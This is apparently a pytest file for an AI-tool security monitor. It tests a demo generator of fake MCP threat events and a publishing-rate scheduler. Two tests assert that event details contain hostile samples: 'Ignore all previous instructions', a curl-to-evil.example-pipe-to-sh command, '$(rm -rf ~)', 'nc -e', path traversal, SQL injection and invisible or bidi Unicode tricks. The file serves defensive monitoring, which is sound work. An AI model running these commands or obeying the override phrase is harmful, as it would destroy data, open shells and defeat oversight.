"""The demo writer's threat generator and publishing schedule (simulated time only)."""

from __future__ import annotations

import time
from collections import Counter

import pytest

from kindlyguard_monitor.demo.schedule import MAX_CATCH_UP, MAX_WAKEUP_S, RateSchedule
from kindlyguard_monitor.demo.threats import ThreatGenerator
from kindlyguard_monitor.threats import CRITICAL, HIGH, LOW, MEDIUM, THREAT_TYPES, Threat

SEEDS = [0, 1, 2, 7, 42, 1234, 99991, 2**40 + 3]
NOW_US = 1_700_000_000_000_000
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"
ISOLATES = "\u2066\u2067\u2068\u2069"
EMBEDDINGS = "\u202a\u202b\u202c\u202d"


def content(threat: Threat) -> tuple:
    """Everything but the timestamp."""
    return threat[:5]


def stream(seed, n, now=NOW_US) -> list[Threat]:
    return ThreatGenerator(seed).batch(n, now)


def any_char(details: list[str], chars: str) -> bool:
    return any(c in d for d in details for c in chars)


# --- ThreatGenerator -------------------------------------------------------


def test_same_seed_gives_same_stream():
    assert stream(5, 400) == stream(5, 400)
    # with the clock as timestamp, everything but the timestamp still repeats
    a, b = ThreatGenerator(5), ThreatGenerator(5)
    assert [content(a.next()) for _ in range(200)] == [content(b.next()) for _ in range(200)]


def test_different_seeds_give_different_streams():
    streams = {tuple(map(content, stream(seed, 50))) for seed in SEEDS}
    assert len(streams) == len(SEEDS)


def test_batch_continues_the_same_sequence_as_next():
    one_by_one = ThreatGenerator(3)
    expected = [one_by_one.next(NOW_US) for _ in range(30)]
    batched = ThreatGenerator(3)
    assert batched.batch(10, NOW_US) + batched.batch(20, NOW_US) == expected
    assert batched.batch(0, NOW_US) == []


def test_threats_are_well_formed():
    for t in stream(11, 1000):
        assert isinstance(t, Threat)
        assert 0 <= t.threat_type < len(THREAT_TYPES)
        assert t.severity in (LOW, MEDIUM, HIGH, CRITICAL)
        assert isinstance(t.blocked, bool)
        assert t.source.startswith("mcp:") and t.details
        assert t.timestamp_unix_us == NOW_US


def test_timestamp_comes_from_the_clock_when_not_given():
    before = time.time_ns() // 1000
    t = ThreatGenerator(1).next()
    batch = ThreatGenerator(1).batch(5)
    after = time.time_ns() // 1000
    assert before <= t.timestamp_unix_us <= after
    assert len({x.timestamp_unix_us for x in batch}) == 1
    assert before <= batch[0].timestamp_unix_us <= after


@pytest.mark.parametrize("seed", SEEDS)
def test_every_type_and_severity_within_first_200(seed):
    first = stream(seed, 200)
    assert {t.threat_type for t in first} == set(range(8))
    assert {t.severity for t in first} == {LOW, MEDIUM, HIGH, CRITICAL}


def test_mix_looks_like_real_life():
    threats = stream(21, 5000)
    types = Counter(THREAT_TYPES[t.threat_type] for t in threats)
    severities = Counter(t.severity for t in threats)
    for common in ("InjectionAttempt", "UnicodeInvisible", "UnicodeBiDi", "UnicodeHomoglyph"):
        assert types[common] >= 3 * types["RateLimitViolation"]
        assert types[common] >= 6 * types["Unknown"]
    assert types["InjectionAttempt"] == max(types.values())
    assert severities[CRITICAL] < severities[MEDIUM]
    assert severities[CRITICAL] < severities[HIGH]

    def blocked_share(severity):
        picked = [t.blocked for t in threats if t.severity == severity]
        return sum(picked) / len(picked)

    assert blocked_share(CRITICAL) > 0.8
    assert blocked_share(HIGH) > 0.7
    assert blocked_share(LOW) < 0.3


@pytest.mark.parametrize("seed", SEEDS[:4])
def test_sources_fit_the_ring(seed):
    threats = stream(seed, 2000)
    assert all(len(t.source.encode("utf-8")) <= 64 for t in threats)
    sources = {t.source for t in threats}
    for expected in ("mcp:tools/call", "mcp:resources/read", "mcp:prompts/get", "mcp:sampling/createMessage",
                     "mcp:tools/call:filesystem.read_file", "mcp:tools/call:shell.exec", "mcp:tools/list"):
        assert expected in sources


@pytest.mark.parametrize("seed", SEEDS[:4])
def test_details_carry_raw_attack_text(seed):
    details = [t.details for t in stream(seed, 500)]
    assert any_char(details, "\u202e")  # right-to-left override
    assert any_char(details, ZERO_WIDTH)
    assert any_char(details, ISOLATES)
    assert any_char(details, EMBEDDINGS)
    assert any_char(details, "\x1b")  # ANSI escapes, raw
    assert any_char(details, "\u0430\u0435\u043e\u0440\u03bf")  # Cyrillic / Greek lookalikes
    joined = "\n".join(details)
    for snippet in ("Ignore all previous instructions", "../", "evil.example"):
        assert snippet in joined
    assert not any("\\u202e" in d or "\\x1b" in d for d in details)  # not pre-escaped


def test_details_vary_within_a_template():
    rlo = {t.details for t in stream(4, 2000) if "\u202e" in t.details and "offset" in t.details}
    assert len(rlo) > 10


@pytest.mark.parametrize("seed", SEEDS[:4])
def test_details_are_mostly_short_and_sometimes_longer_than_a_slot(seed):
    sizes = [len(t.details.encode("utf-8")) for t in stream(seed, 1000)]
    long = [n for n in sizes if n > 408]
    assert 1 <= len(long) <= 60  # about 1 in 50
    assert all(n <= 300 or n > 408 for n in sizes)  # short ones leave room in a slot


def test_every_kind_of_detail_appears_over_a_long_run():
    joined = "\n".join(t.details for t in stream(8, 5000))
    for snippet in ("; curl http://evil.example/x.sh | sh", "$(rm -rf ~)", "`nc -e", "..%2f", "..\\",
                    "eval(atob(", "' OR 1=1 --", "requests/min on", "\x1b[31m", "\u2066", "\ufeff"):
        assert snippet in joined, snippet


# --- RateSchedule ----------------------------------------------------------


def run(schedule: RateSchedule, start: float, seconds: float, step: float) -> list[tuple[float, int]]:
    """Call due() every `step` simulated seconds; return (now, count) for calls that published."""
    calls = []
    for i in range(round(seconds / step) + 1):
        now = start + i * step
        n = schedule.due(now)
        assert 0 <= n <= MAX_CATCH_UP, (now, n)
        if n:
            calls.append((now, n))
    return calls


@pytest.mark.parametrize("step", [0.001, 0.01, 0.1])
def test_steady_rate_over_two_seconds(step):
    calls = run(RateSchedule(1000, seed=1), start=5000.0, seconds=2.0, step=step)
    assert abs(sum(n for _, n in calls) - 2000) <= 1


def test_huge_rate_returns_counts_not_sleeps():
    schedule = RateSchedule(2_000_000, seed=1)
    assert schedule.due(100.0) == 0
    assert schedule.next_wakeup(100.0) < 1e-5
    calls = run(schedule, start=100.0, seconds=0.1, step=0.001)
    assert len(calls) == 100  # one call per step, not one per event
    assert all(abs(n - 2000) <= 1 for _, n in calls)
    assert abs(sum(n for _, n in calls) - 200_000) <= 1
    assert schedule.next_wakeup(100.1) < 1e-5


def test_catch_up_after_a_stall_is_capped():
    steady = RateSchedule(1000, seed=1)
    steady.due(0.0)
    assert steady.due(10.0) == 250  # 0.25 s worth, not 10 s worth
    assert steady.due(10.0) == 0  # the rest is dropped, not owed
    assert steady.due(10.01) == 10

    huge = RateSchedule(2_000_000, seed=1)
    huge.due(0.0)
    assert huge.due(3.0) == MAX_CATCH_UP
    assert huge.due(3.0) == 0

    demo = RateSchedule(None, seed=1)
    demo.due(0.0)
    assert demo.due(3600.0) <= 100  # at most a burst and a few calm events


def test_due_never_negative_when_the_clock_goes_back():
    for rate in (None, 10.0, 2_000_000):
        schedule = RateSchedule(rate, seed=3)
        schedule.due(50.0)
        schedule.due(60.0)
        assert schedule.due(55.0) == 0
        assert schedule.due(-1.0) == 0
        assert 0.0 <= schedule.next_wakeup(55.0) <= MAX_WAKEUP_S


def test_next_wakeup_is_bounded_and_zero_when_due():
    slow = RateSchedule(0.5, seed=1)
    assert slow.next_wakeup(0.0) == MAX_WAKEUP_S  # next event in 2 s: keep the heartbeat
    assert slow.next_wakeup(2.0) == 0.0
    assert slow.due(2.0) == 1

    steady = RateSchedule(10, seed=1)
    steady.due(0.0)
    assert steady.next_wakeup(0.0) == pytest.approx(0.1)
    assert steady.next_wakeup(0.04) == pytest.approx(0.06)

    demo = RateSchedule(None, seed=9)
    previous_wait = 0.0
    for i in range(6000):
        now = i * 0.01
        wait = demo.next_wakeup(now)
        assert 0.0 <= wait <= MAX_WAKEUP_S
        if demo.due(now):
            assert wait == 0.0
            assert previous_wait <= 0.01 + 1e-9  # one step earlier it already said "soon"
        previous_wait = demo.next_wakeup(now)


def test_following_next_wakeup_reaches_every_event():
    schedule = RateSchedule(50, seed=1)
    now, total = 0.0, 0
    while now < 2.0:
        total += schedule.due(now)
        now += max(schedule.next_wakeup(now), 1e-6)
    assert abs(total - 100) <= 1


@pytest.mark.parametrize("seed", SEEDS[:5])
def test_default_mode_calm_rate_and_bursts(seed):
    step = 0.01
    calls = run(RateSchedule(None, seed=seed), start=12345.0, seconds=120.0, step=step)
    times = [now for now, n in calls for _ in range(n)]

    # An event is part of a burst if 10+ events fall within 0.5 s of it.
    in_burst = set()
    j = 0
    for i, t in enumerate(times):
        while times[j] < t - 0.5:
            j += 1
        if i - j + 1 >= 10:
            in_burst.update(range(j, i + 1))
    bursts = sum(1 for i in in_burst if i == 0 or (i - 1) not in in_burst)

    calm_rate = (len(times) - len(in_burst)) / 120.0
    assert 2.0 <= calm_rate <= 6.0
    assert bursts >= 1
    assert max(n for _, n in calls) < 70  # no call returns more than one burst's worth


def test_schedule_is_deterministic_for_seed_and_times():
    def counts(seed):
        schedule = RateSchedule(None, seed=seed)
        return [schedule.due(i * 0.05) for i in range(2400)]

    assert counts(4) == counts(4)
    assert counts(4) != counts(5)


@pytest.mark.parametrize("rate", [0, -1, float("inf"), float("nan")])
def test_bad_rates_are_refused(rate):
    with pytest.raises(ValueError):
        RateSchedule(rate, seed=1)

